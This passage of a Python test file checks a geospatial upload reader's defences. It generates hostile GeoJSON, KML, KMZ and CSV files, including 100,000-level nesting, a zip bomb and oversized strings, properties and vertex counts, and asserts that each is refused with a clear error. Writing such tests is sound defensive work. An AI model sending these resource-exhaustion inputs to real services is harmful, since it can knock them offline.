        lambda: (
            b'{"type": "Feature", "properties": {"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}"
        ),
        Limits(),
        ("nested 100,002 levels deep", "limit of 64"),
    ),
    "kml-100k-levels": (
        "deep.kml",
        lambda: b"<kml>" + b"<Folder>" * 100_000 + b"</Folder>" * 100_000 + b"</kml>",
        Limits(),
        ("nested more than 64 elements deep",),
    ),
    "string-over-limit": (
        "long.geojson",
        lambda: feature_with({"note": "x" * 100_001}),
        Limits(),
        ("100,001 characters is over the 100,000-character limit",),
    ),
    "too-many-features": (
        "many.geojson",
        lambda: (
            b'{"type": "FeatureCollection", "features": [' + b",".join([b"{}"] * 100_001) + b"]}"
        ),
        Limits(),
        ("100,001 features is over the limit of 100,000",),
    ),
    "too-many-coordinates": (
        "line.geojson",
        lambda: b'{"type": "LineString", "coordinates": [' + b"[0,0]," * 2_000_000 + b"[1,1]]}",
        Limits(),
        ("more than 2,000,000 coordinates",),
    ),
    "over-max-bytes": (
        "huge.geojson",
        lambda: b" " * (50 * 1024 * 1024 + 1),
        Limits(),
        ("52,428,801 bytes is over the 52,428,800-byte limit",),
    ),
    "kmz-zip-bomb": (
        "bomb.kmz",
        lambda: zipped("doc.kml", b"<kml>" + b" " * (20 * 1024 * 1024) + b"</kml>"),
        Limits(),
        ("compressed", "over the limit of 100 to 1", "zip bomb"),
    ),
    "kmz-over-uncompressed-limit": (
        "big.kmz",
        lambda: zipped("doc.kml", comment_kml(3 * 1024 * 1024)),
        Limits(max_bytes=2 * 1024 * 1024),
        ("unpacks to 3,145,728 bytes, over the 2,097,152-byte limit of a KML file",),
    ),
    # Issue 8: 196 MB of comment packed 15 to 1 took 17 s (69 s on the tester's machine)
    # and 600 MB to parse. A KMZ unpacks to no more than a KML upload may be.
    "kmz-unpacks-past-max-bytes": (
        "comment.kmz",
        lambda: zipped("doc.kml", comment_kml(50 * 1024 * 1024 + 1)),
        Limits(),
        ("over the 52,428,800-byte limit of a KML file",),
    ),
    "kml-too-many-placemarks": (
        "many.kml",
        lambda: b"<kml><Document>" + PLACEMARK * 11 + b"</Document></kml>",
        SMALL,
        ("11 Placemarks is over the limit of 10 features",),
    ),
    "kml-too-many-coordinates": (
        "line.kml",
        lambda: (
            b"<kml><Placemark><LineString><coordinates>"
            + b"36.3,33.6 " * 101
            + b"</coordinates></LineString></Placemark></kml>"
        ),
        SMALL,
        ("more than 100 coordinates",),
    ),
    "csv-too-many-rows": (
        "rows.csv",
        lambda: b"lat,lon\n" + b"33.6,36.3\n" * 11,
        SMALL,
        ("more than 10 features",),
    ),
    "csv-cell-over-limit": (
        "cell.csv",
        lambda: b"lat,lon,note\n33.6,36.3," + b"y" * 51 + b"\n",
        SMALL,
        ("51 characters is over the 50-character limit",),
    ),
    "kml-name-over-limit": (
        "name.kml",
        lambda: (
            b"<kml><Placemark><name>"
            + b"n" * 51
            + b"</name><Point><coordinates>1,2</coordinates></Point></Placemark></kml>"
        ),
        SMALL,
        # the record is named (its name is what is wrong: too long)
        ('record #1 "' + "n" * 51 + '": field name: 51 characters is over the 50-character limit',),
    ),
    "kml-value-over-limit": (
        "value.kml",
        lambda: (
            b'<kml><Placemark><ExtendedData><Data name="n"><value>'
            + b"z" * 51
            + b"</value></Data></ExtendedData><Point><coordinates>1,2</coordinates></Point>"
            + b"</Placemark></kml>"
        ),
        SMALL,
        ("51 characters is over the 50-character limit",),
    ),
    # Issue 8: a polygon of 1,000,000 vertices imported in 8.5 s and 580 MB and made the
    # map unusable; the limit is per geometry, besides the file's max_coordinates.
    "polygon-over-vertex-limit": (
        "polygon.geojson",
        lambda: polygon_feature(100_001),
        Limits(),
        (
            "record #1: field geometry: a Polygon of 100,001 vertices is over the limit of "
            "100,000 per geometry",
            "ogr2ogr -simplify",
            "QGIS",
        ),
    ),
    "multipolygon-parts-over-vertex-limit": (
        "parts.geojson",
        lambda: json.dumps(
            {"type": "MultiPolygon", "coordinates": [[circle(6)], [circle(6, lon=40)]]}
        ).encode(),
        FEW_VERTICES,
        ("a MultiPolygon of 12 vertices is over the limit of 10 per geometry",),
    ),
    "kml-ring-over-vertex-limit": (
        "ring.kml",
        lambda: kml_placemark(kml_ring(11)),
        FEW_VERTICES,
        ("record #1: field coordinates: a LinearRing of 11 vertices is over the limit of 10",),
    ),
    "kml-multigeometry-over-vertex-limit": (
        "points.kml",
        lambda: kml_placemark(
            b"<MultiGeometry>"
            + b"<Point><coordinates>36.3,33.6</coordinates></Point>" * 11
            + b"</MultiGeometry>"
        ),
        FEW_VERTICES,
        ("record #1: field geometry: a MultiPoint of 11 vertices is over the limit of 10",),
    ),
    "wkt-over-vertex-limit": (
        "line.csv",
        lambda: b'wkt\n"LINESTRING (' + b", ".join([b"36.3 33.6", b"36.4 33.7"] * 6) + b')"\n',
        FEW_VERTICES,
        ("record #1: field wkt: a LineString of 12 vertices is over the limit of 10",),
    ),
    # Issue 8: a feature with 1,000,001 properties, or a property name of 20 million
    # characters, imported: the length limit was for values only.
    "geojson-too-many-properties": (
        "wide.geojson",
        lambda: feature_with({f"p{n}": n for n in range(100_001)}),
        Limits(),
        ("record #1: field properties: 100,001 properties, over the limit of 1,000 per feature",),
    ),
    "geojson-nested-object-with-too-many-keys": (
        "nested.geojson",
        lambda: feature_with({"survey": {f"q{n}": n for n in range(1_001)}}),
        Limits(),
        ("field properties.survey: 1,001 properties, over the limit of 1,000",),
    ),
    "geojson-key-of-20-million-characters": (
        "key.geojson",
        lambda: feature_with({"k" * 20_000_000: 1}),
        Limits(),
        ("a property name of 20,000,000 characters is over the 1,000-character limit",),
    ),
    "kml-too-many-data-values": (
        "wide.kml",
        lambda: kml_placemark(
            b"<Point><coordinates>36.3,33.6</coordinates></Point>", kml_data(1_001)
        ),
        Limits(),
        ("record #1: field ExtendedData: more than 1,000 properties",),
    ),
    "csv-too-many-columns": (
        "wide.csv",
        lambda: many_columns(1_001),
        Limits(),
        ("1,001 properties, over the limit of 1,000 per feature",),
    ),
    "csv-column-name-past-the-csv-field-limit": (
        "name.csv",
        lambda: b"lat,lon," + b"c" * 200_000 + b"\n33.6,36.3,x\n",
        Limits(),
        ("a property name of 200,000 characters is over the 1,000-character limit",),
    ),
    "own-csv-too-many-properties": (
        "export.csv",
        lambda: own_csv_with_properties(1_001),
        Limits(),
        ('record #1 "A": field properties: 1,001 properties, over the limit of 1,000',),
    ),
}


@pytest.mark.parametrize("case", sorted(GENERATED))
def test_generated_hostile_file_is_refused_before_the_work(case: str) -> None:
    name, make, limits, fragments = GENERATED[case]
    data = make()
    error = refusal(lambda: read_upload(name, data, layer="L", limits=limits), size=len(data))
    for fragment in fragments:
        assert fragment in str(error), (fragment, str(error))


def test_damaged_files_give_data_errors_only() -> None:
    """Truncated and bit-flipped copies of every good file: a result or a DataError."""
    rng = random.Random(7)
    for path in sorted(IMPORTS.iterdir()):
        data = path.read_bytes()
        variants = [data[: len(data) * cut // 12] for cut in range(12)]
        for _ in range(25):
            damaged = bytearray(data)
            for _ in range(3):
                damaged[rng.randrange(len(damaged))] = rng.randrange(256)
            variants.append(bytes(damaged))
        for variant in variants:
            with contextlib.suppress(DataError):
                read_upload(path.name, variant, layer="L")


# ---------------------------------------------------------------- time


class SteppingClock:
    """A clock that moves `step` seconds each time it is read: time passes with work done."""

    def __init__(self, step: float) -> None:
        self.now = 0.0
        self.step = step
        self.reads = 0

    def __call__(self) -> float:
        self.reads += 1
        self.now += self.step
        return self.now


@pytest.mark.parametrize("name", ["slow.kml", "slow.kmz"])
def test_a_parse_past_the_deadline_is_stopped_between_pieces(name: str) -> None:
    kml = comment_kml(8 * 1024 * 1024)  # eight 1 MB pieces to unpack and to parse
    data = zipped("doc.kml", kml) if name.endswith(".kmz") else kml
    clock = SteppingClock(step=1.0)
    error = refusal(
        lambda: read_upload(name, data, layer="L", limits=Limits(max_seconds=3), clock=clock),
        size=len(kml),
    )
    assert "reading the file took longer than the 3-second limit" in str(error)
    assert "split it into smaller files" in str(error)
    assert error.problems[0].record is None  # stopped before any record was read
    assert clock.reads == 5  # the start, three pieces in time, the fourth too late


def test_records_past_the_deadline_are_not_read() -> None:
    points = [{"type": "Point", "coordinates": [n, n]} for n in range(10)]
    data = json.dumps(
        {
            "type": "FeatureCollection",
            "features": [
                {"type": "Feature", "geometry": point, "properties": {}} for point in points
            ],
        }
    ).encode()
    clock = SteppingClock(step=1.0)
    # The start reads the clock once; records #1 to #5 fit in the five seconds.
    with pytest.raises(DataError, match=r"5-second limit \(stopped at record #6\)"):
        read_upload("slow.geojson", data, layer="L", limits=Limits(max_seconds=5), clock=clock)
    # Without a deadline in sight, the same clock lets the file through.
    upload = read_upload("ok.geojson", data, layer="L", clock=SteppingClock(step=1.0))
    assert len(upload.records) == 10


# ---------------------------------------------------------------- vertices per geometry


def test_a_geometry_over_the_vertex_limit_is_refused_before_it_is_walked(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Counting is all that happens: no position is checked and no shape built (a polygon
    of 1,000,000 vertices spent 8 of its 8.5 s there)."""
    import geo.formats._kml as kml
    import geo.formats.reader as common

    def walked(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("the positions were walked before the limit was checked")

    for name in ("geometry_problems", "structure_problems", "shape"):
        monkeypatch.setattr(common, name, walked, raising=False)
    monkeypatch.setattr(kml, "number", walked)
    with pytest.raises(DataError, match="100,001 vertices"):
        read_upload("p.geojson", polygon_feature(100_001), layer="L")
    with pytest.raises(DataError, match="11 vertices"):
        read_upload("p.kml", kml_placemark(kml_ring(11)), layer="L", limits=FEW_VERTICES)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("at-limit.geojson", polygon_feature(10)),
        ("at-limit.kml", kml_placemark(kml_ring(10))),
        ("at-limit.csv", b'wkt\n"LINESTRING (' + b", ".join([b"1 2", b"3 4"] * 5) + b')"\n'),
    ],
)
def test_a_geometry_at_the_vertex_limit_imports(name: str, data: bytes) -> None:
    assert len(read_upload(name, data, layer="L", limits=FEW_VERTICES).records) == 1


# ---------------------------------------------------------------- properties per feature


def test_too_many_properties_are_refused_before_they_are_copied(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import geo.formats._geojson as geojson_reader

    def copied(value: Any) -> Any:
        raise AssertionError("the properties were copied before the limit was checked")

    monkeypatch.setattr(geojson_reader.copy, "deepcopy", copied)
    with pytest.raises(DataError, match="1,001 properties"):
        read_upload("w.geojson", feature_with({f"p{n}": n for n in range(1_001)}), layer="L")


def test_properties_and_names_at_the_limits_import() -> None:
    widest = {f"p{n}": n for n in range(999)} | {"k" * 1_000: "a name of 1,000 characters"}
    (record,) = read_upload("w.geojson", feature_with(widest), layer="L").records
    assert record.properties == widest
    kml = kml_placemark(b"<Point><coordinates>36.3,33.6</coordinates></Point>", kml_data(1_000))
    assert len(read_upload("w.kml", kml, layer="L").records[0].properties) == 1_000
    assert len(read_upload("w.csv", many_columns(1_000), layer="L").records[0].properties) == 1_000
    assert len(read_upload("e.csv", own_csv_with_properties(1_000), layer="L").records) == 1


# ---------------------------------------------------------------- the antimeridian

# name: (geometry, the type once cut, its parts)
CROSSING: dict[str, tuple[dict[str, Any], str, int]] = {
    "polygon-170-to-minus-170": (
        {
            "type": "Polygon",
            "coordinates": [[[170, 0], [-170, 0], [-170, 10], [170, 10], [170, 0]]],
        },
        "MultiPolygon",
        2,
    ),
    "polygon-clockwise": (
        {
            "type": "Polygon",
            "coordinates": [[[170, 0], [170, 10], [-170, 10], [-170, 0], [170, 0]]],
        },
        "MultiPolygon",
        2,
    ),
    "polygon-with-a-hole-across-too": (
        {
            "type": "Polygon",
            "coordinates": [
                [[160, -10], [-160, -10], [-160, 10], [160, 10], [160, -10]],
                [[-175, -1], [-175, 1], [175, 1], [175, -1], [-175, -1]],
            ],
        },
        "MultiPolygon",
        2,
    ),
    "polygon-with-a-vertex-at-minus-180": (
        {
            "type": "Polygon",
            "coordinates": [[[170, 0], [-180, 0], [-180, 10], [170, 10], [170, 0]]],
        },
        "Polygon",  # all of it lies east of the antimeridian: -180 is 180
        1,
    ),
    "line": (
        {"type": "LineString", "coordinates": [[170, 0], [-170, 10], [175, 20]]},
        "MultiLineString",
        3,
    ),
    "multilinestring": (
        {"type": "MultiLineString", "coordinates": [[[179, 0], [-179, 1]], [[0, 0], [1, 1]]]},
        "MultiLineString",
        3,
    ),
    "multipolygon": (
        {
            "type": "MultiPolygon",
            "coordinates": [
                [[[179, 50], [-179, 50], [-179, 51], [179, 51], [179, 50]]],
                [[[10, 10], [11, 10], [11, 11], [10, 10]]],
            ],
        },
        "MultiPolygon",
        3,
    ),
}


def unwrapped_size(geometry: dict[str, Any]) -> float:
    """Area (or length) of a geometry with every longitude moved east of 0: its true size in
    degrees when it crosses the antimeridian and lies within 180° of it."""

    def east(coords: Any) -> Any:
        if isinstance(coords[0], (int, float)):
            return [coords[0] % 360, *coords[1:]]
        return [east(item) for item in coords]

    geom = shape({"type": geometry["type"], "coordinates": east(geometry["coordinates"])})
    return geom.area if "Polygon" in geometry["type"] else geom.length


@pytest.mark.parametrize("name", sorted(CROSSING))
def test_a_geometry_across_the_antimeridian_is_cut_and_keeps_its_original(name: str) -> None:
    geometry, kind, parts = CROSSING[name]
    features = [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [0, 0]}, "properties": {}},
        {"type": "Feature", "geometry": geometry, "properties": {"name": "across"}},
    ]
    data = json.dumps({"type": "FeatureCollection", "features": features}).encode()
    upload = read_upload("a.geojson", data, layer="L")
    record = upload.records[1]
    cut = record.geometry
    assert cut["type"] == kind
    assert len(shapely.get_parts(shape(cut))) == parts
    assert not crosses_antimeridian(cut)
    assert geometry_problems(cut) == []  # what geo.store checks on add
    size = shape(cut).area if "Polygon" in kind else shape(cut).length
    assert size == pytest.approx(unwrapped_size(geometry), rel=1e-6)
    assert record.properties == {"name": "across", ORIGINAL_GEOMETRY_KEY: geometry}
    assert upload.records[0].properties == {}
    (warning,) = upload.warnings
    assert "cut there into parts" in warning and "RFC 7946" in warning
    assert warning.endswith(": #2")  # names the record, and only it


def test_the_cut_is_where_the_edge_crosses() -> None:
    line = {"type": "LineString", "coordinates": [[170, 0], [-170, 10]]}
    (record,) = read_upload("l.geojson", json.dumps(line).encode(), layer="L").records
    assert record.geometry == {
        "type": "MultiLineString",
        "coordinates": [[[170.0, 0.0], [180.0, 5.0]], [[-180.0, 5.0], [-170.0, 10.0]]],
    }


NOT_CROSSING = [
    {  # already cut, as this tool and GDAL's -wrapdateline write it
        "type": "MultiPolygon",
        "coordinates": [
            [[[170, 0], [180, 0], [180, 10], [170, 10], [170, 0]]],
            [[[-180, 0], [-170, 0], [-170, 10], [-180, 10], [-180, 0]]],
        ],
    },
    {"type": "LineString", "coordinates": [[170, 0], [180, 5]]},  # ends on it
    {"type": "LineString", "coordinates": [[-90, 0], [90, 0]]},  # 180° apart: not across it
    {  # a cap cut at the antimeridian, with an edge along the pole from 180 to -180
        "type": "Polygon",
        "coordinates": [[[-180, 80], [0, 80], [180, 80], [180, 90], [-180, 90], [-180, 80]]],
    },
]


@pytest.mark.parametrize("geometry", NOT_CROSSING)
def test_a_geometry_that_does_not_cross_is_left_alone(geometry: dict[str, Any]) -> None:
    upload = read_upload("n.geojson", json.dumps(geometry).encode(), layer="L")
    assert upload.records[0].geometry == normalise_geometry(geometry)
    assert upload.warnings == []
    assert ORIGINAL_GEOMETRY_KEY not in upload.records[0].properties


def test_kml_and_wkt_across_the_antimeridian_are_cut() -> None:
    kml = kml_placemark(b"<LineString><coordinates>170,0 -170,10</coordinates></LineString>")
    wkt = b'wkt\n"POLYGON ((170 0, -170 0, -170 10, 170 10, 170 0))"\n'
    for name, data in (("a.kml", kml), ("a.csv", wkt)):
        upload = read_upload(name, data, layer="L")
        assert upload.records[0].geometry["type"].startswith("Multi")
        assert ORIGINAL_GEOMETRY_KEY in upload.records[0].properties


def test_a_cut_record_round_trips_through_kml_and_csv() -> None:
    geometry = CROSSING["polygon-with-a-hole-across-too"][0]
    (record,) = read_upload("a.geojson", json.dumps(geometry).encode(), layer="L").records
    for name, data in (
        ("a.kml", to_kml([record], document_name="d")),
        ("a.csv", to_csv([record]).encode()),
    ):
        upload = read_upload(name, data, layer="other")
        assert upload.records == [record]
        assert upload.warnings == []  # not cut again


# Star-shaped polygons around a centre near the antimeridian: vertices in directions
# taken from 48 evenly spaced ones, always with the four quarters (so the centre is
# inside and the ring is simple), at random distances.
star_polygons = st.tuples(
    st.floats(-40, 40),
    st.lists(st.integers(0, 47), max_size=48, unique=True),
    st.lists(st.floats(0.5, 40), min_size=48, max_size=48),
    st.floats(-30, 30),
)


@given(star_polygons)
@settings(max_examples=60, deadline=None)
def test_any_simple_polygon_across_the_antimeridian_is_cut_without_loss(
    star: tuple[float, list[int], list[float], float],
) -> None:
    lat, directions, distances, shift = star
    ring = []
    for direction in sorted({*directions, 0, 12, 24, 36}):
        angle = 2 * math.pi * direction / 48
        lon = 180 + shift + distances[direction] * math.cos(angle)
        ring.append(
            [
                round((lon + 180) % 360 - 180, 7),
                round(lat + distances[direction] * math.sin(angle) * 1.2, 7),
            ]
        )
    ring.append(ring[0])
    geometry = {"type": "Polygon", "coordinates": [ring]}
    (record,) = read_upload("s.geojson", json.dumps(geometry).encode(), layer="L").records
    cut = record.geometry
    assert not crosses_antimeridian(cut)
    assert geometry_problems(cut) == []
    assert shape(cut).area == pytest.approx(unwrapped_size(geometry), rel=1e-5)
    assert read_upload("s.kml", to_kml([record], document_name="d"), layer="x").records == [record]
    assert read_upload("s.csv", to_csv([record]).encode(), layer="x").records == [record]


# ---------------------------------------------------------------- GDAL

OGR = shutil.which("ogrinfo")
needs_gdal = pytest.mark.skipif(
    OGR is None and not os.environ.get("CI"), reason="ogrinfo (gdal-bin) is not installed"
)


def ogrinfo(*args: str | Path) -> str:
    assert OGR is not None, "CI must have ogrinfo (gdal-bin)"
    done = subprocess.run(
        [OGR, "-ro", "-al", "-so", *map(str, args)], capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


@needs_gdal
def test_gdal_opens_our_kml(tmp_path: Path) -> None:
    records = hostile_records()
    path = tmp_path / "export.kml"
    path.write_bytes(to_kml(records, document_name="Case"))
    info = ogrinfo(path)
    counts = [int(line.split(":")[1]) for line in info.splitlines() if "Feature Count" in line]
    assert sum(counts) == len(records)
    assert len(counts) == len({r.layer for r in records})  # a layer per Folder


@needs_gdal
def test_gdal_opens_our_csv_with_its_geometry(tmp_path: Path) -> None:
    records = hostile_records()
    path = tmp_path / "export.csv"
    path.write_text(to_csv(records), encoding="utf-8", newline="")
    info = ogrinfo(path, "-oo", "GEOM_POSSIBLE_NAMES=geometry", "-oo", "KEEP_GEOM_COLUMNS=NO")
    assert f"Feature Count: {len(records)}" in info
    assert "Geometry Column = geometry" in info
    for column in ("id", "layer", "kind", "name", "date", "date_as_stated", "properties"):
        assert f"\n{column}: String" in info
    extent = next(line for line in info.splitlines() if line.startswith("Extent"))
    assert extent == "Extent: (-180.000000, -89.500000) - (36.280000, 35.000000)"


@needs_gdal
@pytest.mark.parametrize(
    ("driver", "options", "suffix"),
    [("KML", [], ".kml"), ("LIBKML", [], ".kml"), ("CSV", ["-lco", "GEOMETRY=AS_WKT"], ".csv")],
)
def test_files_written_by_gdal_are_read(
    tmp_path: Path, driver: str, options: list[str], suffix: str
) -> None:
    ogr2ogr = shutil.which("ogr2ogr")
    assert ogr2ogr is not None
    out = tmp_path / f"sites{suffix}"
    subprocess.run(
        [ogr2ogr, "-f", driver, *options, str(out), str(IMPORTS / "sites.geojson")],
        check=True,
        capture_output=True,
        timeout=60,
    )
    upload = read_upload(out.name, out.read_bytes(), layer="GDAL")
    original = read("sites.geojson").records
    assert [r.name for r in upload.records] == [r.name for r in original]
    assert [r.geometry["type"] for r in upload.records] == [r.geometry["type"] for r in original]
    assert upload.records[0].kind == "place"
    assert upload.records[1].date == "2017-05-15"  # GDAL's 2017/05/15 08:30:00+00


@pytest.mark.parametrize(
    ("extension", "key"),
    [
        (".geojson", "geojson"),
        (".JSON", "geojson"),
        (".kml", "kml"),
        (".kmz", "kmz"),
        (".csv", "csv"),
        (".tsv", "csv"),
        (".txt", "csv"),
        (".shp", None),
        (".gpx", "gpx"),
        (".GPKG", "gpkg"),
        (".zip", "shapefile"),
        (".fgb", "fgb"),
        ("", None),
    ],
)
def test_one_registry_names_every_format(extension, key):
    from geo.formats.registry import by_extension

    found = by_extension(extension)
    assert (found.key if found else None) == key


def test_the_uploader_the_exports_and_the_command_line_use_the_registry():
    from geo.cli.commands import parser
    from geo.formats.registry import FORMATS, export_formats, upload_types
    from geo.transfer import EXPORT_FORMATS

    assert set(upload_types()) >= {
        "geojson",
        "json",
        "kml",
        "kmz",
        "csv",
        "gpx",
        "gpkg",
        "zip",
        "fgb",
    }
    assert export_formats() == EXPORT_FORMATS and "kmz" not in EXPORT_FORMATS
    fmt_action = next(
        a
        for a in parser()._subparsers._group_actions[0].choices["export"]._actions
        if a.dest == "fmt"
    )
    assert list(fmt_action.choices) == list(EXPORT_FORMATS)
    # every format read announces itself as the importer expects
    assert {fmt.holds for fmt in FORMATS} == {"json", "xml", "zip", "text", "binary"}
